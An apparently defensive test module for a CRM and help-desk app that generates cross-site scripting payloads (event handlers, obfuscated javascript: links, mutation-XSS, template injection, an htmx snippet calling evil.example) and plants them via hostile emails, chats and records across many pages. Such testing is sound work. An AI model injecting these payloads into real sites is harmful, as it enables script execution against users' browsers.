"""Markup that wants to run: payloads of our own, those of files, and where they are put."""

import json
import random
from base64 import b64encode
from collections.abc import Iterable
from datetime import timedelta
from email.header import Header
from pathlib import Path

from amity.base.text import fold
from amity.base.time import now
from amity.kernel.access.models import Team
from amity.kernel.access.rules import SYSTEM
from amity.kernel.customers.models import Customer, CustomFieldDefinition, Identity, Tag
from amity.kernel.policy.document import CanvasDocument, Expectation
from amity.kernel.policy.models import PolicyVersion
from amity.kernel.policy.operations import create_draft
from amity.kernel.policy.queries import document_of
from amity.kernel.segments.models import Segment
from amity.run.accounts.models import AccountNote, Goal, Plan, Task
from amity.run.deals.models import CloseReason, Deal, Pipeline
from amity.run.inbox.models import CannedReply, Channel, Conversation, Macro, Message
from amity.run.inbox.operations.chat import Said, open_session, say
from amity.run.inbox.operations.files import attach_files
from amity.run.inbox.operations.mail.intake import ingest
from amity.run.inbox.rules.chat import Claim
from amity.run.inbox.rules.incoming import IncomingFile

WRAPS = (
    "{}",
    '"><{}',
    "'><{}",
    "</title><{}",
    "</textarea><{}",
    "</script><{}",
    "--><{}",
    "]]><{}",
)
TAGS = "img svg video audio body input details iframe object embed math form a marquee style"
SINKS = (
    "mail HTML",
    "mail text",
    "subject",
    "sender name",
    "file name",
    "note",
    "canned reply",
    "macro name",
    "customer name",
    "tag",
    "custom field",
    "company",
    "deal title",
    "close reason",
    "account plan",
    "account note",
    "task",
    "team name",
    "segment name",
    "canvas sticky",
    "import preview",
    "chat widget",
    "visitor name",
    "agent name in the chat",
)


def own_payloads(count: int, seed: int = 2026) -> list[str]:
    """Payloads of a dozen families, mixed; the same seed gives the same ones."""
    rng = random.Random(seed)
    tags = TAGS.split()
    events = "onerror onload onfocus onmouseover ontoggle onanimationstart onpointerenter".split()
    schemes = ("javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "\x01javascript:")
    does = ("alert(1)", "confirm`1`", "print()", "top['al'+'ert'](1)", "prompt(document.domain)")

    def event() -> str:
        gap = rng.choice((" ", "/", "\n", "\t", "\x0c"))
        quote = rng.choice(("", '"', "'"))
        name = rng.choice(events)
        more = rng.choice(("src=x", "autofocus", "open", "href=#", "srcset=x", "style=x"))
        shape = f"{rng.choice(tags)}{gap}{more} {name}={quote}{rng.choice(does)}{quote}>"
        return rng.choice(WRAPS).format(f"<{shape}" if rng.random() < 0.5 else shape)

    def link() -> str:
        to = rng.choice(schemes) + rng.choice(does)
        return rng.choice(
            (
                f'<a href="{to}">x</a>',
                f'<form action="{to}"><button>x</button></form>',
                f'<iframe src="{to}"></iframe>',
                f'<svg><a xlink:href="{to}"><text y="9">x</text></a></svg>',
                f'<meta http-equiv="refresh" content="0;url={to}">',
                f'<button formaction="{to}">x</button>',
                f'<object data="{to}"></object>',
                f'<base href="{to}//">',
            )
        )

    def mutation() -> str:
        act = rng.choice(does)
        return rng.choice(
            (
                f'<noscript><p title="</noscript><img src=x onerror={act}>">',
                f"<math><mtext><mglyph><style><!--</style><img title='--><img onerror={act}>'>",
                f'<svg></p><style><a id="</style><img src=x onerror={act}>">',
                f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={act}>",
                f"<template><script>{act}</script></template><script>{act}</script>",
                f"<style>*{{background:url('javascript:{act}')}}</style><script>{act}",
                f"{{{{constructor.constructor('{act}')()}}}}${{{act}}}<%= {act} %>",
                f"<div hx-on:load='{act}' hx-get=//evil.example data-hx-trigger=load>x</div>",
                f"<xmp><img title='</xmp><img src=x onerror={act}>'></xmp>",
                f"\u202e<scr\u0000ipt>{act}</scr\u0000ipt>",
            )
        ).replace("\x00", "")

    return [rng.choice((event, link, mutation))() for _ in range(count)]


def payloads_of(paths: Iterable[str]) -> list[str]:
    """The payloads of files: a list or a list of objects as JSON, else one a line."""
    found: list[str] = []
    for path in paths:
        text = Path(path).read_text(encoding="utf-8", errors="replace")
        if path.endswith(".json"):
            found += [one if isinstance(one, str) else one["payload"] for one in json.loads(text)]
        else:
            found += [line for line in text.splitlines() if line and not line.startswith("#")]
    return [one.replace("\x00", "") for one in found if one.strip()]


def hostile_mail(payload: str, number: int) -> bytes:
    """A mail that has the payload in its HTML, text, subject, sender and file name."""
    words = Header(payload.replace("\n", " ").replace("\r", " ")[:180], "utf-8", maxlinelen=10_000)
    said = words.encode(linesep="").replace("\n", "")
    body = b64encode(payload.encode("utf-8", "replace")).decode()
    name = b64encode(payload[:150].encode("utf-8", "replace")).decode()
    part = "Content-Transfer-Encoding: base64\r\n"
    return (
        f"From: {said} <p{number}@hostile.example>\r\nTo: help@shop.example\r\n"
        f"Subject: {said}\r\nMessage-ID: <hostile-{number}@hostile.example>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n"
        "--m\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n"
        f"--a\r\nContent-Type: text/plain; charset=utf-8\r\n{part}\r\n{body}\r\n"
        f"--a\r\nContent-Type: text/html; charset=utf-8\r\n{part}\r\n{body}\r\n--a--\r\n"
        f'--m\r\nContent-Type: text/plain; name="=?utf-8?b?{name}?="\r\n'
        f'Content-Disposition: attachment; filename="=?utf-8?b?{name}?="\r\n\r\nx\r\n--m--\r\n'
    ).encode()


class Planted:
    """One batch of payloads in every sink, and the pages that show them all."""

    def __init__(self, payloads: list[str], first: int, site: str) -> None:
        self.payloads, self.first, self.site = payloads, first, site
        self.pages: list[str] = []
        self._make_room()
        self._mails()
        self._customers()
        self._choices()
        self._deals_and_accounts()
        self._canvas()
        self._chat()

    def _make_room(self) -> None:
        """What the batch before left where lists show everything at once."""
        for model in (CannedReply, Macro, Task, Deal):
            model._default_manager.all().delete()
        Team.objects.filter(key__startswith="h").delete()
        Segment.objects.filter(key__startswith="h").delete()
        CloseReason.objects.filter(deals=None).delete()

    def _mails(self) -> None:
        """Each by the real intake; then all words stand in one conversation, with a note each."""
        at = now()
        for number, payload in enumerate(self.payloads, self.first):
            ingest(hostile_mail(payload, number), at=at + timedelta(seconds=number))
        rows = Conversation.objects.filter(participants__address__endswith="@hostile.example")
        reader = rows.order_by("pk")[0]
        Message.objects.filter(conversation__in=rows).update(conversation=reader)
        Message.objects.bulk_create(
            Message(
                conversation=reader,
                kind=Message.Kind.NOTE,
                channel=reader.channel,
                author_name=payload[:200],
                text=payload,
                at=at,
                source="hostile",
                source_id=f"{self.first}-{index}",
                created_at=at,
            )
            for index, payload in enumerate(self.payloads)
        )
        self.pages += ["/inbox/?view=all", f"/inbox/{reader.number}/"]

    def _customers(self) -> None:
        """Name, tag, custom field and city of a customer each; all on one list."""
        at = now()
        CustomFieldDefinition.objects.get_or_create(
            key="motto", defaults={"label": self.payloads[0][:50], "kind": "text"}
        )
        made = Customer.objects.bulk_create(
            Customer(
                name=payload[:200],
                name_folded=fold(payload[:200]),
                kind=("person", "organization")[index % 2],
                city=payload[:100],
                custom={"motto": payload[:500]},
                created_at=at,
                updated_at=at,
            )
            for index, payload in enumerate(self.payloads)
        )
        words = {payload[:50] for payload in self.payloads}
        Tag.objects.bulk_create([Tag(name=word) for word in sorted(words)], ignore_conflicts=True)
        made[0].tags.add(*Tag.objects.filter(name__in=words))
        for customer, payload in zip(made, self.payloads, strict=True):
            Identity.objects.create(
                customer=customer,
                kind="external",
                namespace="shop",
                value=f"h{customer.pk}",
                shown=payload[:200],
                created_at=at,
            )
        self.customer = made[0]
        self.pages += ["/customers?sort=-created_at", f"/customers/{self.customer.pk}"]

    def _choices(self) -> None:
        """Canned replies, macros, teams, segments, reasons: what menus and set-up pages show."""
        at = now()
        for index, payload in enumerate(self.payloads):
            key = f"h{self.first + index}"
            name = f"{payload[:80]} {key}"
            CannedReply.objects.create(shortcut=key, name=name, text=payload, updated_at=at)
            Macro.objects.create(
                name=name,
                actions=[{"do": "tag", "name": payload[:50]}],
                updated_at=at,
            )
            Team.objects.create(key=key, name=name)
            Segment.objects.create(
                key=key, name=name, rule={"everyone": True}, color=1, created_at=at
            )
            CloseReason.objects.create(kind="lost", name=name)
        self.pages += [
            "/inbox/setup/replies/",
            "/inbox/setup/macros/",
            "/inbox/setup/",
            "/settings/teams",
            "/segments/",
            "/deals/settings",
        ]

    def _deals_and_accounts(self) -> None:
        at, today = now(), now().date()
        pipeline = Pipeline.objects.order_by("pk")[0]
        stage = pipeline.stages.order_by("position")[0]
        plan = Plan.objects.create(
            customer=self.customer, aim=self.payloads[0], strategy=self.payloads[-1], updated_at=at
        )
        for payload in self.payloads:
            Deal.objects.create(
                customer=self.customer,
                pipeline=pipeline,
                stage=stage,
                title=payload[:200],
                competitor=payload[:100],
                currency="USD",
                expected_close_on=today,
                opened_at=at,
                stage_since=at,
            )
            Task.objects.create(
                customer=self.customer,
                title=payload[:200],
                note=payload,
                due_on=today,
                starts_on=today,
                created_at=at,
            )
            AccountNote.objects.create(customer=self.customer, text=payload, written_at=at)
            Goal.objects.create(plan=plan, title=payload[:200], measure=payload[:100])
        self.pages += [
            "/deals/",
            "/deals/list",
            "/accounts/tasks?whose=all",
            f"/accounts/{self.customer.pk}",
        ]

    def _canvas(self) -> None:
        """Every payload as a sticky of the first row of a draft."""
        base = PolicyVersion.objects.order_by("number")[0]
        document: CanvasDocument = document_of(base)
        first, *others = document.segments
        stickies = tuple(
            Expectation(kind="need", statement=payload[:500], source=payload[:200])
            for payload in self.payloads
            if payload.strip()
        )
        row = first.model_copy(update={"expectations": stickies, "note": self.payloads[0][:1000]})
        draft = create_draft(
            document=document.model_copy(update={"segments": (row, *others)}),
            name=self.payloads[0][:200],
            reason=self.payloads[-1][:300],
            base=None,
            actor=SYSTEM,
            at=now(),
        )
        self.pages += [
            f"/canvas/versions/{draft.number}/",
            f"/canvas/versions/{draft.number}/segments/{first.segment}/",
            "/canvas/versions/",
        ]

    def _chat(self) -> None:
        """A chat whose visitor and agents wrote the payloads, bear them as names and sent them."""
        at = now()
        channel, _made = Channel.objects.update_or_create(
            key="hostile",
            defaults={
                "kind": Channel.Kind.CHAT,
                "name": self.payloads[0][:100],
                "settings": {"origins": [self.site], "greeting": self.payloads[-1]},
                "created_at": at,
            },
        )
        claim, mailed = Claim(name=self.payloads[0][:200]), f"v{self.first}@visitor.example"
        address = f"192.0.2.1:{self.first}"
        session, self.token = open_session(channel=channel, claim=claim, address=address, at=at)
        begun = Said(text=self.payloads[0], number=f"{self.first:016d}", email=mailed)
        conversation = say(session_id=session.pk, said=begun, at=at).conversation
        rows = [
            Message(
                conversation=conversation,
                kind=kind,
                channel=channel,
                author_name=payload[:200],
                text=payload,
                at=at,
                source=source,
                source_id=f"{session.pk}:{kind}-{index:012d}",
                created_at=at,
            )
            for index, payload in enumerate(self.payloads)
            for kind, source in (("incoming", "chat"), ("reply", "hostile chat"))
        ]
        Message.objects.bulk_create(rows)
        for message in rows[:10]:
            attach_files(message, (IncomingFile(message.text, "text/html", b"x"),), at=at)
        self.pages += [f"/inbox/{conversation.number}/", "/inbox/chats/"]
